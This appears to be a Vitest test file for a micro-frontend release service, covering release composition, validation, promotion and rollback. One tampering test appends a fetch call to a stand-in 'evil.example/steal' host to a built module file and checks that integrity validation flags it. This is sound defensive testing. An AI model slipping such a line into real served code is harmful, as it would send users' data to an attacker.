import { appendFileSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { versionFolder } from './cdn.ts';
import { ReleaseService } from './service.ts';
import {
  FEES,
  FRAME,
  fakeBuild,
  fakePageLibraries,
  fakeWorkspace,
  type BuildOptions,
  type FakeModule,
} from './testing/fakeWorkspace.ts';

/** A workspace with frame 1.0.0 and fee-directory 1.0.0 deployed, composed and promoted. */
async function liveSuite() {
  const { root, dataDir } = fakeWorkspace();
  const service = new ReleaseService({ dataDir, now: () => new Date('2026-11-27T02:00:00Z') });
  const deploy = (module: FakeModule, version: string, options: BuildOptions = {}) =>
    service.deploy({
      root,
      name: module.name,
      version,
      from: fakeBuild(module, { marker: version, ...options }),
      actor: 'ci',
    });
  await deploy(FRAME, '1.0.0');
  await deploy(FEES, '1.0.0');
  const first = await service.compose({
    set: [
      { name: 'frame', version: '1.0.0' },
      { name: 'fee-directory', version: '1.0.0' },
    ],
    actor: 'li.na',
  });
  await service.promote({ releaseId: first.release.release.id, actor: 'li.na' });
  return { root, dataDir, service, deploy, first: first.release.release.id };
}

describe('composing a release', () => {
  it('takes each module version from its deploy record and puts the release on staging', async () => {
    const { service, deploy, first } = await liveSuite();
    expect(first).toBe('2026.11.27-1');
    await deploy(FEES, '1.1.0');
    const result = await service.compose({
      set: [{ name: 'fee-directory', version: '1.1.0' }],
      actor: 'li.na',
      notes: 'faster search',
    });
    const fees = result.release.modules.find((m) => m.name === 'fee-directory');
    expect(fees).toMatchObject({
      version: '1.1.0',
      entry: 'modules/fee-directory/1.1.0/mf-manifest.json',
      integrity: {
        'mf-manifest.json': expect.stringMatching(/^sha384-/),
        'remoteEntry.js': expect.stringMatching(/^sha384-/),
      },
      contract: '1.0.0',
    });
    expect(result.release.release).toMatchObject({
      id: '2026.11.27-2',
      basedOn: first,
      createdBy: 'li.na',
      notes: 'faster search',
    });
    expect(result.diff?.changes).toEqual([{ kind: 'version', module: 'fee-directory', from: '1.0.0', to: '1.1.0' }]);
    expect(service.channel('staging')).toMatchObject({ releaseId: '2026.11.27-2', revision: 2 });
    expect(service.channel('production')).toMatchObject({ releaseId: first, revision: 1 });
  });

  it('refuses a version that was never deployed, saying what is', async () => {
    const { service } = await liveSuite();
    await expect(service.compose({ set: [{ name: 'fee-directory', version: '9.0.0' }], actor: 'x' })).rejects.toThrow(
      'fee-directory 9.0.0 is not deployed (deployed: 1.0.0); deploy it first: pnpm deploy:module fee-directory',
    );
  });

  it('refuses a release with an incompatible shared dependency, naming the module and the dependency, and stores nothing', async () => {
    const { service, deploy } = await liveSuite();
    await deploy(FEES, '1.2.0', {
      shared: [{ name: 'react', version: '18.3.1', singleton: true, requiredVersion: '^18.3.1' }],
    });
    const before = service.overview().releases.length;
    const refused = await service
      .compose({ set: [{ name: 'fee-directory', version: '1.2.0' }], actor: 'x' })
      .catch((error: unknown) => error);
    expect(refused).toMatchObject({ code: 'invalid' });
    const { message, details } = refused as { message: string; details: { validation: { issues: unknown[] } } };
    expect(message).toContain(
      "fee-directory 1.2.0 provides react 18.3.1, incompatible with the suite's singleton react ^19",
    );
    expect(details.validation.issues).toContainEqual(
      expect.objectContaining({ severity: 'error', rule: 'shared', module: 'fee-directory', dependency: 'react' }),
    );
    expect(service.overview().releases).toHaveLength(before);
  });

  it('refuses a module whose exposed code lacks the single-spa lifecycles', async () => {
    const { service, deploy } = await liveSuite();
    await deploy(FEES, '1.3.0', { exports: ['bootstrap', 'render'] });
    await expect(service.compose({ set: [{ name: 'fee-directory', version: '1.3.0' }], actor: 'x' })).rejects.toThrow(
      /fee-directory 1\.3\.0: \.\/lifecycles does not export the single-spa lifecycles mount, unmount/,
    );
  });

  it('adds and ends canaries, and refuses a staging change made meanwhile', async () => {
    const { service, deploy } = await liveSuite();
    await deploy(FEES, '1.1.0');
    const canary = await service.compose({
      canary: [{ name: 'fee-directory', version: '1.1.0', percent: 10 }],
      actor: 'x',
    });
    expect(canary.release.modules.find((m) => m.name === 'fee-directory')?.canary).toMatchObject({
      version: '1.1.0',
      percent: 10,
      entry: 'modules/fee-directory/1.1.0/mf-manifest.json',
    });
    expect(canary.diff?.changes).toEqual([
      { kind: 'canary', module: 'fee-directory', to: { version: '1.1.0', percent: 10 } },
    ]);
    await expect(
      service.compose({
        base: canary.release.release.id,
        endCanary: ['fee-directory'],
        actor: 'y',
        expectedStagingRevision: 1,
      }),
    ).rejects.toMatchObject({
      code: 'conflict',
      message: expect.stringContaining('staging changed since you read it'),
    });
  });
});

describe('validating', () => {
  it('refuses a tampered file and an unreachable entry', async () => {
    const { service, dataDir, first } = await liveSuite();
    const folder = versionFolder(join(dataDir, 'cdn'), 'fee-directory', '1.0.0');
    appendFileSync(join(folder, 'remoteEntry.js'), '\nfetch("https://evil.example/steal")');
    const tampered = await service.validate(first);
    expect(tampered.ok).toBe(false);
    expect(tampered.issues.filter((i) => i.severity === 'error').map((i) => i.message)).toEqual([
      'fee-directory 1.0.0: remoteEntry.js does not match its integrity hash: it was changed after the deploy',
      'fee-directory 1.0.0: files changed since the deploy: remoteEntry.js',
    ]);
    const manifest = service.release(first);
    const moved = {
      ...manifest,
      modules: manifest.modules.map((m) =>
        m.name === 'frame' ? { ...m, entry: 'modules/frame/7.0.0/mf-manifest.json' } : m,
      ),
    };
    const unreachable = await service.validate(moved);
    expect(unreachable.issues).toContainEqual(
      expect.objectContaining({
        rule: 'entry',
        module: 'frame',
        message: expect.stringContaining('cannot be reached'),
      }),
    );
  });

  it('refuses duplicate routes and a module built against another major of the host contract', async () => {
    const { service, first } = await liveSuite();
    const manifest = service.release(first);
    const clash = {
      ...manifest,
      modules: manifest.modules.map((m) =>
        m.name === 'fee-directory' ? { ...m, apps: [{ expose: './lifecycles', route: '/' }], contract: '2.0.0' } : m,
      ),
    };
    expect((await service.validate(clash)).issues).toEqual([
      expect.objectContaining({ rule: 'routes', message: 'modules.1.apps.0.route: route / is claimed twice' }),
    ]);
    const newer = {
      ...manifest,
      modules: manifest.modules.map((m) => (m.name === 'fee-directory' ? { ...m, contract: '2.0.0' } : m)),
    };
    expect((await service.validate(newer)).issues).toContainEqual(
      expect.objectContaining({
        rule: 'contract',
        message: 'fee-directory 1.0.0 was built against host contract 2.0.0; the shell provides 1.0.0',
      }),
    );
  });
});

describe('validating page libraries', () => {
  const sharedIssues = (issues: Array<{ rule: string; module?: string }>, module: string) =>
    issues.filter((i) => i.rule === 'shared' && i.module === module);

  it('checks a build that imports its libraries from the page by its page-libraries.json, not by its empty shared list', async () => {
    const { service, deploy } = await liveSuite();
    await deploy(FEES, '2.0.0', { pageLibraries: fakePageLibraries() });
    const { validation } = await service.compose({ set: [{ name: 'fee-directory', version: '2.0.0' }], actor: 'x' });
    expect(validation.ok).toBe(true);
    // Before page libraries, an empty shared list warned "does not share react…" for each singleton.
    expect(sharedIssues(validation.issues, 'fee-directory')).toEqual([]);
  });

  it('refuses a build made against a newer library than the page gives it, naming the module, the specifier and both versions', async () => {
    const { service, deploy } = await liveSuite();
    await deploy(FEES, '2.1.0', { pageLibraries: fakePageLibraries({ 'react/jsx-runtime': '19.9.0' }) });
    const refused = await service
      .compose({ set: [{ name: 'fee-directory', version: '2.1.0' }], actor: 'x' })
      .catch((error: unknown) => error);
    expect(refused).toMatchObject({ code: 'invalid' });
    const issues = (refused as { details: { validation: { issues: Array<{ rule: string; module?: string }> } } })
      .details.validation.issues;
    expect(sharedIssues(issues, 'fee-directory')).toEqual([
      expect.objectContaining({
        severity: 'error',
        dependency: 'react',
        message: expect.stringMatching(
          /^fee-directory 2\.1\.0 was built against react\/jsx-runtime 19\.9\.0, newer than the react 19\.\d+\.\d+ the page gives every module/,
        ),
      }),
    ]);
  });

  it('keeps the shared checks for a build from before page libraries, beside one with them', async () => {
    const { service, deploy } = await liveSuite();
    await deploy(FEES, '2.0.0', { pageLibraries: fakePageLibraries() });
    await deploy(FRAME, '1.1.0', { shared: [{ name: 'react', version: '19.3.1', singleton: true }] });
    const { validation } = await service.compose({
      set: [
        { name: 'fee-directory', version: '2.0.0' },
        { name: 'frame', version: '1.1.0' },
      ],
      actor: 'x',
    });
    expect(sharedIssues(validation.issues, 'fee-directory')).toEqual([]);
    expect(sharedIssues(validation.issues, 'frame')).toContainEqual(
      expect.objectContaining({
        severity: 'warning',
        dependency: 'antd',
        message: 'frame 1.1.0 does not share antd: if it uses antd it bundles a second copy',
      }),
    );
  });

  it('refuses a page-libraries.json that cannot be read, rather than taking the build for an old one', async () => {
    const { service, deploy, dataDir } = await liveSuite();
    await deploy(FEES, '2.0.0', { pageLibraries: fakePageLibraries() });
    const file = join(versionFolder(join(dataDir, 'cdn'), 'fee-directory', '2.0.0'), 'page-libraries.json');
    writeFileSync(file, '{"libraries": "react"}');
    await expect(service.compose({ set: [{ name: 'fee-directory', version: '2.0.0' }], actor: 'x' })).rejects.toThrow(
      'fee-directory 2.0.0: its page-libraries.json is not a page-libraries file, so its libraries cannot be checked',
    );
    rmSync(file);
    mkdirSync(file);
    await expect(service.compose({ set: [{ name: 'fee-directory', version: '2.0.0' }], actor: 'x' })).rejects.toThrow(
      /fee-directory 2\.0\.0: its page-libraries\.json cannot be read \(EISDIR.*\), so its libraries cannot be checked/,
    );
  });
});

describe('promoting and rolling back', () => {
  it('promotes staging, rolls back to the previous release, and keeps the history', async () => {
    const { service, deploy, first } = await liveSuite();
    await deploy(FEES, '1.1.0');
    const second = (await service.compose({ set: [{ name: 'fee-directory', version: '1.1.0' }], actor: 'li.na' }))
      .release.release.id;
    const promoted = await service.promote({ actor: 'li.na', expectedRevision: 1, note: 'go' });
    expect(promoted).toMatchObject({ channel: 'production', releaseId: second, revision: 2, updatedBy: 'li.na' });
    expect(service.served('production').modules.find((m) => m.name === 'fee-directory')?.version).toBe('1.1.0');
    const rolledBack = await service.rollback({ actor: 'wang.wei', expectedRevision: 2 });
    expect(rolledBack).toMatchObject({ releaseId: first, revision: 3 });
    expect(
      service.history({ channel: 'production' }).map((e) => [e.action, e.releaseId, e.previousReleaseId, e.actor]),
    ).toEqual([
      ['rollback', first, second, 'wang.wei'],
      ['promote', second, first, 'li.na'],
      ['promote', first, undefined, 'li.na'],
    ]);
    expect(service.history({ limit: 2 })).toHaveLength(2);
  });

  it('refuses a concurrent promote with a conflict that says who changed production', async () => {
    const { service, deploy } = await liveSuite();
    await deploy(FEES, '1.1.0');
    await service.compose({ set: [{ name: 'fee-directory', version: '1.1.0' }], actor: 'li.na' });
    const results = await Promise.allSettled([
      service.promote({ actor: 'li.na', expectedRevision: 1 }),
      service.promote({ actor: 'wang.wei', expectedRevision: 1 }),
    ]);
    expect(results.map((r) => r.status).sort()).toEqual(['fulfilled', 'rejected']);
    const refused = results.find((r) => r.status === 'rejected') as PromiseRejectedResult;
    expect(refused.reason).toMatchObject({ code: 'conflict' });
    expect(String(refused.reason.message)).toMatch(
      /^production changed since you read it: it is now at release 2026\.11\.27-2 \(revision 2, set by (li\.na|wang\.wei) at .+\), but you expected revision 1/,
    );
    expect(service.channel('production')?.revision).toBe(2);
  });

  it('refuses what does not apply: already live, never staged, never live, nothing before', async () => {
    const { service, first, dataDir } = await liveSuite();
    await expect(service.promote({ releaseId: first, actor: 'x' })).rejects.toThrow(/already live in production/);
    await expect(service.rollback({ actor: 'x' })).rejects.toThrow(/production has had only release/);
    // A release file dropped into the store by hand was never staged.
    const manual = { ...service.release(first), release: { ...service.release(first).release, id: 'manual-1' } };
    writeFileSync(join(dataDir, 'releases', 'releases', 'manual-1.json'), JSON.stringify(manual));
    await expect(service.promote({ releaseId: 'manual-1', actor: 'x' })).rejects.toThrow(/was never on staging/);
    await expect(service.rollback({ releaseId: 'manual-1', actor: 'x' })).rejects.toThrow(
      /was never live in production/,
    );
    await expect(service.rollback({ releaseId: 'nope', actor: 'x' })).rejects.toMatchObject({ code: 'not_found' });
  });

  it('serves a release with entries resolved and the channel stamped', async () => {
    const { dataDir, first } = await liveSuite();
    const service = new ReleaseService({
      dataDir,
      resolveEntry: (entry, module) => `http://${module}.cdn.test/${entry}`,
    });
    const served = service.served('production');
    expect(served.release).toMatchObject({ id: first, channel: 'production' });
    expect(served.modules[0]?.entry).toBe('http://frame.cdn.test/modules/frame/1.0.0/mf-manifest.json');
    expect(
      JSON.parse(readFileSync(join(dataDir, 'releases', 'releases', `${first}.json`), 'utf8')).modules[0].entry,
    ).toBe('modules/frame/1.0.0/mf-manifest.json');
  });
});
